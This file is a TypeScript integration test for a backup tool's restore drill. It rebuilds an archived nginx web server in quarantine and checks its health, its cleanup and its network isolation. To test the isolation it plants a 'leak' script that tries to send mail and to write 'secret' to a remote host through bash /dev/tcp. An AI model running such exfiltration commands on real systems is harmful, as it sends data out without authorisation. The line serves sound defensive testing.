/** A drill of a whole machine: a small web server, archived, rebuilt in quarantine from packages that were fetched before, and removed again. */
import { execFileSync } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { beforeAll, expect, test } from "vitest";
import type { DrillReport } from "../../src/engine/drill/run.ts";
import { DebianRoot } from "../support/debian.ts";
import { runColdkeep } from "../support/program.ts";
import { buildSingleFile } from "../support/single-file.ts";
import { afterUse, fileTempDir } from "../support/temp-dir.ts";
import { makeTree } from "../support/tree.ts";

const KIT = "/root/kit.txt";
const PAGE_PORT = 18_743;
let work: string;
let kit: string;
let outside: { host: string; port: number };
let connections = 0;

/** What a restored server may try by itself: mail to people, and another machine. */
const leak = ({ host, port }: typeof outside): string => `#!/bin/bash
echo hello | /usr/sbin/sendmail somebody@example.net
! timeout 2 bash -c 'echo secret > /dev/tcp/${host}/${port}' 2>/dev/null
`;

beforeAll(async () => {
  const host = Object.values(networkInterfaces()).flatMap((each) => each ?? []).find(({ internal, family }) => !internal && family === "IPv4")?.address ?? "127.0.0.1";
  const server = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => void server.listen(0, host, resolve));
  afterUse(() => void server.close());
  const address = server.address();
  outside = { host, port: typeof address === "object" ? (address?.port ?? 0) : 0 };
  // It works: what shall not be reached from inside can be reached from here.
  execFileSync("bash", ["-c", `echo x > /dev/tcp/${host}/${outside.port}`]);
  const program = process.env["COLDKEEP_TEST_PROGRAM"] ?? buildSingleFile();
  work = fileTempDir();
  const old = DebianRoot.make("old");
  // What an earlier drill would have kept.
  mkdirSync(join(work, "state/base-systems"), { recursive: true });
  execFileSync("bash", ["-c", `tar -C '${old.path}' --numeric-owner -cf - . | zstd -q -1 -o '${join(work, "state/base-systems/debian-bookworm-amd64.tar.zst")}'`]);
  copyFileSync(program, join(old.path, "usr/bin/coldkeep"));
  await old.must("apt-get update -qq && apt-get install -y -qq --no-install-recommends nginx-light cron >/dev/null", { env: { DEBIAN_FRONTEND: "noninteractive" } });
  makeTree(old.path, {
    "etc/nginx/sites-available/default": `server { listen 127.0.0.1:${PAGE_PORT}; root /srv/www; }\n`,
    "srv/www/index.html": "the page\n",
    "etc/cron.d/app": "* * * * * root touch /srv/cron-ran\n",
    "usr/local/bin/leak": leak(outside),
  });
  await old.must(
    `chmod 755 /usr/local/bin/leak; useradd -m alice
     coldkeep init --host web1 --region a=file:///mnt/a --region b=file:///mnt/b --source /etc --source /srv --source /usr/local --kit ${KIT} --yes
     cat >> /etc/coldkeep/coldkeep.yaml <<'END'
objectives: {rto: 2h}
health:
  - {name: page, within: 30s, http: {url: "http://127.0.0.1:${PAGE_PORT}/", text: the page}}
  - {name: nginx, within: 30s, unit: nginx}
  - {name: leak, within: 1s, command: {run: [/usr/local/bin/leak]}}
  - {name: load, within: 30s, load: {url: "http://127.0.0.1:${PAGE_PORT}/", rate: 20, duration: 2s, p95: 1s}}
END
     mv ${KIT} /mnt/kit.txt; coldkeep backup -v`,
    { hostName: "web1" },
  );
  kit = join(work, "kit.txt");
  execFileSync("cp", ["-a", `${old.path}/mnt/.`, work]);
  execFileSync("sed", ["-i", `s#file:///mnt/#file://${work}/#`, kit]);
}, 600_000);

async function drill(args: string[]): Promise<{ status: number | null; stderr: string; document: DrillReport & { error?: { message: string } } }> {
  const config = join(work, "coldkeep.yaml");
  // Only its state folder is of use here: where base systems are kept.
  if (!existsSync(config)) {
    const vault = /"([0-9a-f]{32})"|([0-9a-f]{32})/.exec(execFileSync("cat", [join(work, "a/coldkeep.json")], { encoding: "utf8" }))?.[0]?.replaceAll('"', "") ?? "";
    writeFileSync(config, `vault: "${vault}"\nhost: drill-machine\nregions: [{name: a, url: "file://${work}/a"}]\nrecipients: [age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p]\nsources: [/etc]\nstate: ${work}/state\n`);
  }
  const result = await runColdkeep(["drill", "-v", "--json", "--depth", "services", "--kit", kit, "--config", config, "--accept", "memory", "--accept", "cpus", ...args], { timeoutMs: 400_000 });
  return { status: result.status, stderr: result.stderr, document: result.json() };
}

test("services run, checks are well, nothing gets out, and nothing stays", async () => {
  const before = connections;
  const { status, stderr, document } = await drill([]);
  expect(document.error?.message ?? document.why.join("\n"), stderr).toBe("");
  expect(document).toMatchObject({ host: "web1", depth: "services", result: "passed", cleanUp: { processesLeft: 0, mountsLeft: 0, folderLeft: false } });
  expect(document.machine?.interfaces).toEqual(["lo"]);
  expect(document.machine?.mails).toBeGreaterThanOrEqual(1);
  expect(document.machine?.rebuild.steps.map(({ step }) => step)).toEqual(["users", "packages", "files", "databases", "services", "health"]);
  expect(document.rtoMs).toBeGreaterThan(1000);
  expect(document.rtoObjectiveMs).toBe(7_200_000);
  expect([0, 3]).toContain(status);
  expect(connections).toBe(before);
  expect(readdirSync(join(work, "state/drill"))).toEqual([]);
  const record = readdirSync(join(work, "b/hosts/web1/records"));
  expect(record).toHaveLength(1);
  const said = await runColdkeep(["status", "--kit", kit]);
  expect(said.stdout).toMatch(/drilled +services passed .* ago; took /);
}, 500_000);

test("with a damaged copy it fails, which is what --sabotage is for", async () => {
  const { status, document } = await drill(["--sabotage"]);
  expect(document).toMatchObject({ result: "failed", sabotaged: true, record: null, cleanUp: { processesLeft: 0, mountsLeft: 0, folderLeft: false } });
  expect(document.why.join("\n")).toMatch(/the rebuild ended with|lost/);
  expect(status).toBe(0);
}, 500_000);
